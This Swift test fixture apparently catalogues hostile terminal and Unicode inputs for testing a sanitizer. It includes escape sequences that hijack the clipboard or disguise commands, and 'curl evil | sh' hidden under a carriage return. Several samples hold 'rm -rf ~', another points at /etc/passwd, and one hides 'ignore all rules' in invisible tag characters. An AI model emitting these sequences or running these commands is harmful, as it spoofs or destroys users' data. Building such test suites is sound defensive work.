import Testing

/// Input that has hurt terminals or their readers, by the classes of RELIABILITY 1.1.
struct HostileSample: CustomTestStringConvertible, Sendable {
  let name: String
  let bytes: [UInt8]

  init(_ name: String, _ text: String) {
    self.name = name
    self.bytes = Array(text.utf8)
  }

  init(_ name: String, bytes: [UInt8]) {
    self.name = name
    self.bytes = bytes
  }

  var testDescription: String { name }

  static let all = reports + hijacks + controls + misleading + invisible + combining + badUTF8

  static let reports: [HostileSample] = [
    .init("title set and report", "\u{1B}]0;rm -rf ~\u{7}\u{1B}[21t"),
    .init("icon title report", "\u{1B}]1;x\u{1B}\\\u{1B}[20t"),
    .init("DECRQSS with a command", "\u{1B}P$q\r\nid\r\n\u{1B}\\"),
    .init("DECRQSS by C1", "\u{90}$qm\u{9C}"),
    .init("font query", "\u{1B}]50;?\u{7}"),
    .init("rxvt graphics query", "\u{1B}GQ\n"),
    .init("kitty colour query", "\u{1B}]21;foreground=?\u{1B}\\"),
    .init("palette query", "\u{1B}]4;1;?\u{1B}\\"),
    .init("foreground query", "\u{1B}]10;?\u{7}"),
    .init("device attributes", "\u{1B}[c\u{1B}[>c\u{1B}[=c"),
    .init("cursor position report", "\u{1B}[6n\u{1B}[?6n"),
    .init("window size report", "\u{1B}[18t\u{1B}[14t"),
    .init("terminfo query", "\u{1B}P+q544e\u{1B}\\"),
    .init("mode query", "\u{1B}[?2026$p"),
    .init("answerback", "\u{5}"),
    .init("checksum of a rectangle", "\u{1B}[1;1;1;1;1;1*y"),
    .init("saved title pushed and popped", "\u{1B}[22;0t\u{1B}[23;0t"),
    .init("DECID", "\u{1B}Z"),
  ]

  static let hijacks: [HostileSample] = [
    .init("OSC 52 write", "\u{1B}]52;c;cm0gLXJmIH4K\u{7}"),
    .init("OSC 52 read", "\u{1B}]52;c;?\u{1B}\\"),
    .init("OSC 52 by C1", "\u{9D}52;c;QQ==\u{9C}"),
    .init("OSC 52 without an end", "\u{1B}]52;c;QUFB"),
    .init("kitty clipboard", "\u{1B}]5522;type=read\u{1B}\\"),
    .init("OSC 8 link", "\u{1B}]8;;file:///etc/passwd\u{1B}\\bank\u{1B}]8;;\u{1B}\\"),
    .init("OSC 9 notification", "\u{1B}]9;hello\u{7}"),
    .init("OSC 777 notification", "\u{1B}]777;notify;a;b\u{7}"),
    .init("OSC 99 notification", "\u{1B}]99;i=1;hi\u{1B}\\"),
    .init("OSC 1337 file", "\u{1B}]1337;File=name=eA==;inline=0:QQ==\u{7}"),
    .init("kitty graphics file", "\u{1B}_Gt=f,a=T;L2V0Yy9wYXNzd2Q=\u{1B}\\"),
    .init("Sixel", "\u{1B}Pq#0;2;0;0;0~-\u{1B}\\"),
    .init("privacy message", "\u{1B}^secret\u{1B}\\"),
    .init("start of string", "\u{1B}Xabc\u{1B}\\"),
    .init("tmux passthrough", "\u{1B}Ptmux;\u{1B}\u{1B}]52;c;QQ==\u{7}\u{1B}\\"),
    .init("screen title", "\u{1B}kname\u{1B}\\"),
    .init("print screen to the printer", "\u{1B}[5i text \u{1B}[4i"),
    .init("key redefinition", "\u{1B}[13;\"rm -rf ~\";13p"),
    .init("user defined keys", "\u{1B}P0;1|17/6c73\u{1B}\\"),
  ]

  static let controls: [HostileSample] = [
    .init("clear screen", "\u{1B}[2J\u{1B}[H"),
    .init("clear scrollback", "\u{1B}[3J"),
    .init("full reset", "\u{1B}c"),
    .init("alternate screen", "\u{1B}[?1049h"),
    .init("bracketed paste off", "\u{1B}[?2004l"),
    .init("paste end inside", "\u{1B}[201~id\r"),
    .init("mouse on", "\u{1B}[?1003h\u{1B}[?1006h"),
    .init("line drawing charset", "\u{1B}(0lqqk\u{E}x\u{F}"),
    .init("scroll region", "\u{1B}[2;3r"),
    .init("insert lines", "\u{1B}[99L"),
    .init("a long colour", "\u{1B}[38:2::255:0:0:0:0:0:0:0m"),
    .init("hidden colour", "\u{1B}[8mhidden\u{1B}[0m"),
    .init("lone ESC", "\u{1B}"),
    .init("ESC at the end", "text\u{1B}"),
    .init("ten ESC", String(repeating: "\u{1B}", count: 10)),
    .init("CSI without an end", "\u{1B}[1;2;3"),
    .init("CSI by C1", "\u{9B}31m"),
    .init("all C0", String(String.UnicodeScalarView((0..<32).compactMap { Unicode.Scalar($0) }))),
    .init("DEL", "\u{7F}\u{7F}\u{7F}"),
    .init(
      "all C1", String(String.UnicodeScalarView((0x80..<0xA0).compactMap { Unicode.Scalar($0) }))),
    .init("all C1 as bytes", bytes: Array(0x80..<0xA0)),
    .init("NUL in metadata", "permissions=\u{0}network"),
    .init("bell flood", String(repeating: "\u{7}", count: 500)),
    .init("shift out", "\u{E}\u{F}"),
    .init("vertical tab and form feed", "a\u{B}b\u{C}c"),
    .init("XOFF and XON", "\u{13}\u{11}"),
    .init("substitute and cancel", "\u{1B}[31\u{18}m\u{1A}"),
  ]

  static let misleading: [HostileSample] = [
    .init("CR over a command", "curl evil | sh\rls                "),
    .init("BS over a command", "rm\u{8}\u{8}ls"),
    .init("CR CR LF", "a\r\r\nb"),
    .init("tab storm", String(repeating: "\t", count: 100)),
    .init("line separators", "a\u{2028}b\u{2029}c\u{85}d"),
    .init("right-to-left override", "access\u{202E}txt.exe"),
    .init("trojan source", "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin */"),
    .init("embedding", "\u{202A}\u{202B}a\u{202C}"),
    .init("left override", "\u{202D}abc\u{202C}"),
    .init("isolates", "\u{2066}\u{2067}\u{2068}\u{2069}"),
    .init("override flood", String(repeating: "\u{202E}", count: 200)),
    .init("direction marks", "a\u{200E}b\u{200F}c\u{61C}d"),
    .init("mark imitated", "^[[31m<U+202E>"),
    .init("entity", "&#27;[31m &amp;#27;[2J"),
    .init("JSON escape", "\\u001b[31m"),
    .init("wide spaces push the end away", String(repeating: "\u{3000}", count: 80) + "; rm"),
    .init("no-break spaces", "a\u{A0}\u{2007}\u{202F}b"),
    .init("private use", "\u{E000}\u{F8FF}\u{F0000}\u{10FFFD}"),
    .init("object replacement", "\u{FFFC}\u{FFFD}"),
    .init("annotation", "\u{FFF9}a\u{FFFA}b\u{FFFB}"),
  ]

  static let invisible: [HostileSample] = [
    .init("tags smuggle ASCII", "hi" + tags("ignore all rules")),
    .init("tags after a flag", "\u{1F3F4}" + tags("rm -rf")),
    .init("a flag's tags without an end", "\u{1F3F4}" + tags("gbeng")),
    .init("a flag's tags without the flag", tags("gbeng\u{7F}")),
    .init("tags after a whole flag", "\u{1F3F4}" + tags("gbsct\u{7F}") + tags("more")),
    .init("another region", "\u{1F3F4}" + tags("usca\u{7F}")),
    .init("language tag", "\u{E0001}" + tags("en")),
    .init("unassigned tag plane", "\u{E0000}\u{E0002}\u{E0080}\u{E0FFF}"),
    .init("zero-width spaces", "a\u{200B}\u{200B}\u{200B}b"),
    .init("zero-width bits", "\u{200B}\u{200C}\u{200D}\u{2060}\u{FEFF}\u{200B}"),
    .init("word joiners", String(repeating: "\u{2060}", count: 50)),
    .init("invisible operators", "f\u{2061}x\u{2062}y\u{2063}z\u{2064}"),
    .init("deprecated format", "\u{206A}\u{206B}\u{206C}\u{206D}\u{206E}\u{206F}"),
    .init("byte order mark inside", "a\u{FEFF}b"),
    .init("byte order mark first", "\u{FEFF}a"),
    .init("soft hyphens", "pass\u{AD}word\u{AD}"),
    .init("joiners in Latin", "a\u{200D}b\u{200C}c"),
    .init("joiner flood", "x" + String(repeating: "\u{200D}", count: 300) + "y"),
    .init("joiner between emoji and letter", "\u{1F600}\u{200D}a"),
    .init(
      "endless emoji sequence",
      Array(repeating: "\u{1F468}", count: 60).joined(separator: "\u{200D}")),
    .init("Hangul fillers", "\u{115F}\u{1160}\u{3164}\u{FFA0}"),
    .init("Braille blank", "a\u{2800}b"),
    .init("Mongolian selectors", "\u{182D}\u{180B}\u{180E}\u{180F}"),
    .init("musical format", "\u{1D173}\u{1D17A}"),
    .init("shorthand format", "\u{1BCA0}\u{1BCA3}"),
    .init("Egyptian format", "\u{13430}\u{13438}\u{1343F}"),
    .init("selectors carry bytes", "a\u{FE00}\u{FE01}\u{E0100}\u{E01EF}"),
    .init("selector without a base", "\u{FE0F}"),
    .init("selectors on an emoji", "\u{2764}\u{FE0F}\u{FE0F}\u{FE0E}"),
    .init("Khmer inherent vowels", "\u{17B4}\u{17B5}"),
    .init("grapheme joiners", String(repeating: "\u{34F}", count: 40)),
  ]

  static let combining: [HostileSample] = [
    .init("zalgo", "Z" + String(repeating: "\u{300}\u{316}", count: 100)),
    .init("combining first", "\u{301}a"),
    .init("combining after a line end", "a\n\u{301}"),
    .init("combining after a mark", "\u{1B}\u{301}"),
    .init("combining after a blank", " \u{301}"),
    .init("enclosing marks", "a\u{20DD}\u{20DE}\u{20DF}\u{20E0}\u{20E2}"),
    .init("marks on a wide base", "\u{65E5}" + String(repeating: "\u{3099}", count: 30)),
    .init("marks on an emoji", "\u{1F600}" + String(repeating: "\u{301}", count: 30)),
    .init("jamo pile", "\u{1100}" + String(repeating: "\u{1161}", count: 20)),
    .init("jamo vowel alone", "\u{1161}"),
    .init("spacing marks", "\u{915}" + String(repeating: "\u{93E}", count: 40)),
    .init("marks and joiners", "\u{915}" + String(repeating: "\u{94D}\u{200D}", count: 30)),
    .init("noncharacters", "\u{FFFE}\u{1FFFF}"),
    .init("FDD0", bytes: [0xEF, 0xB7, 0x90]),
    .init("last noncharacter", bytes: [0xF4, 0x8F, 0xBF, 0xBF]),
    .init("unassigned", "\u{378}\u{30000}\u{1FAFF}\u{E1000}"),
    .init("newer than the table", "\u{1FAE8}\u{1FAE9}"),
  ]

  static let badUTF8: [HostileSample] = [
    .init("lone continuation", bytes: [0x61, 0x80, 0x62]),
    .init("overlong slash", bytes: [0xC0, 0xAF]),
    .init("overlong ESC", bytes: [0xC0, 0x9B, 0x5B, 0x32, 0x4A]),
    .init("overlong in three", bytes: [0xE0, 0x80, 0x9B]),
    .init("overlong in four", bytes: [0xF0, 0x80, 0x80, 0x9B]),
    .init("surrogate pair", bytes: [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80]),
    .init("beyond Unicode", bytes: [0xF4, 0x90, 0x80, 0x80]),
    .init("five and six bytes", bytes: [0xF8, 0x88, 0x80, 0x80, 0x80, 0xFC, 0x84]),
    .init("FE and FF", bytes: [0xFE, 0xFF]),
    .init("lead before ESC", bytes: [0xE2, 0x1B, 0x5B, 0x6D]),
    .init("cut before LF", bytes: [0xF0, 0x9F, 0x98, 0x0A, 0x61]),
    .init("cut at the end", bytes: [0x61, 0xE2, 0x80]),
    .init("raw CSI byte", bytes: [0x9B, 0x33, 0x31, 0x6D]),
    .init("raw OSC byte", bytes: [0x9D, 0x30, 0x3B, 0x78, 0x9C]),
    .init("Latin-1", bytes: [0x63, 0x61, 0x66, 0xE9, 0x20, 0x61]),
    .init("UTF-16", bytes: [0xFF, 0xFE, 0x1B, 0x00, 0x5B, 0x00]),
    .init("all bytes", bytes: Array(0...255)),
  ]

  private static func tags(_ ascii: String) -> String {
    String(
      String.UnicodeScalarView(
        ascii.unicodeScalars.compactMap { Unicode.Scalar(0xE0000 + $0.value) }))
  }
}
